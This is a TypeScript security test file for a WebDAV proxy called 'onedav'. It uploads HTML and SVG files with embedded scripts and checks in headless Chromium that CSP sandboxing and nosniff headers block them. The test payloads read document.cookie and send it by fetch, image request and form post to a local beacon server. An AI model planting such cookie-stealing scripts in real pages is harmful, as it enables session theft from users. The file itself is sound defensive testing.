import { createHash } from 'node:crypto';
import { createServer, type Server } from 'node:http';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { HEADLESS_CHROMIUM } from '../helpers/browser.js';
import { startDavStack, type DavStack } from '../helpers/stack.js';
import { hasProgram, run, skipReason } from './tools.js';

/**
 * Files somebody uploaded are served from onedav's own origin in proxy mode, the origin of its
 * listing (and sign-in) pages. Headless Chromium opens uploaded HTML and SVG that try to script
 * that origin — read the cookies, post a form, call out — and must find every attempt blocked.
 */
describe.skipIf(!hasProgram('chromium'))(`active content from the drive in headless Chromium${skipReason('chromium')}`, () => {
  let stack: DavStack;
  let profile: string;
  let beacon: Server;
  let beaconUrl: string;
  const calls: string[] = [];

  const attack = (marker: string) =>
    `document.getElementById('s').textContent = '${marker} ran: ' + document.cookie;` +
    `fetch('${beaconUrl}/fetch?c=' + encodeURIComponent(document.cookie), { mode: 'no-cors' }).catch(() => {});` +
    `document.getElementById('f').submit();`;
  const html = () =>
    `<!DOCTYPE html><html><head><meta charset="utf-8"><title>evil</title></head><body>` +
    `<p id="s">static page</p><img src="${beaconUrl}/img">` +
    `<form id="f" method="post" action="${beaconUrl}/form"><input name="x" value="y"></form>` +
    `<script>${attack('html script')}</script></body></html>`;
  const svg = () =>
    `<svg xmlns="http://www.w3.org/2000/svg" width="200" height="50"><text id="s" x="0" y="20">static svg</text>` +
    `<script>document.getElementById('s').textContent = 'svg script ran: ' + document.cookie; fetch('${beaconUrl}/svg');</script></svg>`;

  const dumpDom = async (url: string) => {
    const { stdout, code } = await run(
      'chromium',
      [...HEADLESS_CHROMIUM, `--user-data-dir=${profile}`, '--dump-dom', url],
      { timeoutMs: 60_000 },
    );
    expect(code).toBe(0);
    return stdout;
  };

  beforeAll(async () => {
    profile = await mkdtemp(join(tmpdir(), 'onedav-chromium-active-'));
    beacon = createServer((req, res) => {
      calls.push(`${req.method} ${req.url}`);
      res.end('ok');
    });
    await new Promise<void>((resolve) => beacon.listen(0, '127.0.0.1', resolve));
    beaconUrl = `http://127.0.0.1:${(beacon.address() as AddressInfo).port}`;
    stack = await startDavStack({ mounts: [{ prefix: '/', download: { mode: 'proxy' } }] });
    const drive = stack.driveIds[0];
    await stack.emulator.drive.putFile(drive, '/evil.html', Buffer.from(html()));
    await stack.emulator.drive.putFile(drive, '/evil.svg', Buffer.from(svg()));
    await stack.emulator.drive.putFile(drive, '/evil.txt', Buffer.from(html()));
  });

  afterAll(async () => {
    await stack?.close();
    await new Promise<void>((resolve) => (beacon ? beacon.close(() => resolve()) : resolve()));
    if (profile) await rm(profile, { recursive: true, force: true });
  });

  it('an uploaded HTML page renders, but its script never runs, its form never posts, and nothing calls out', async () => {
    const dom = await dumpDom(`${stack.url}/evil.html`);
    expect(dom).toContain('<p id="s">static page</p>');
    expect(calls).toEqual([]);
  });

  it('an uploaded SVG image with a script is drawn without running it', async () => {
    const dom = await dumpDom(`${stack.url}/evil.svg`);
    expect(dom).toContain('<text id="s" x="0" y="20">static svg</text>');
    expect(calls).toEqual([]);
  });

  it('HTML stored under a text name is shown as text, never sniffed into a page', async () => {
    const dom = await dumpDom(`${stack.url}/evil.txt`);
    expect(dom).toContain('&lt;script&gt;');
    expect(dom).not.toContain('<p id="s">');
    expect(calls).toEqual([]);
  });

  it('every file answer carries the sandbox and nosniff, ranges too; PDFs keep only nosniff', async () => {
    await stack.emulator.drive.putFile(stack.driveIds[0], '/report.pdf', Buffer.from('%PDF-1.4\n%%EOF\n'));
    for (const [path, range] of [['/evil.html', undefined], ['/evil.html', 'bytes=0-9'], ['/evil.svg', undefined]] as const) {
      const res = await fetch(`${stack.url}${path}`, { headers: range ? { Range: range } : {} });
      expect(res.status).toBe(range ? 206 : 200);
      expect(res.headers.get('x-content-type-options')).toBe('nosniff');
      expect(res.headers.get('content-security-policy')).toMatch(/^sandbox;.*default-src 'none'/);
      await res.arrayBuffer();
    }
    const head = await fetch(`${stack.url}/evil.html`, { method: 'HEAD' });
    expect(head.headers.get('content-security-policy')).toMatch(/^sandbox;/);
    const pdf = await fetch(`${stack.url}/report.pdf`);
    await pdf.arrayBuffer();
    expect(pdf.headers.get('x-content-type-options')).toBe('nosniff');
    expect(pdf.headers.get('content-security-policy')).toBeNull();
  });

  it('the listing page allows exactly its own stylesheet, no script, no framing', async () => {
    const res = await fetch(`${stack.url}/`);
    const page = await res.text();
    const style = /<style>([\s\S]*?)<\/style>/.exec(page)![1];
    const policy = res.headers.get('content-security-policy') ?? '';
    expect(policy).toContain(`style-src 'sha256-${createHash('sha256').update(style).digest('base64')}'`);
    expect(policy).toContain("default-src 'none'");
    expect(policy).toContain("frame-ancestors 'none'");
    expect(policy).not.toContain('script-src');
    expect(res.headers.get('x-content-type-options')).toBe('nosniff');
    // Chromium still draws it styled: the policy's hash matches what it parsed.
    expect(await dumpDom(`${stack.url}/`)).toContain('evil.html');
  });
});
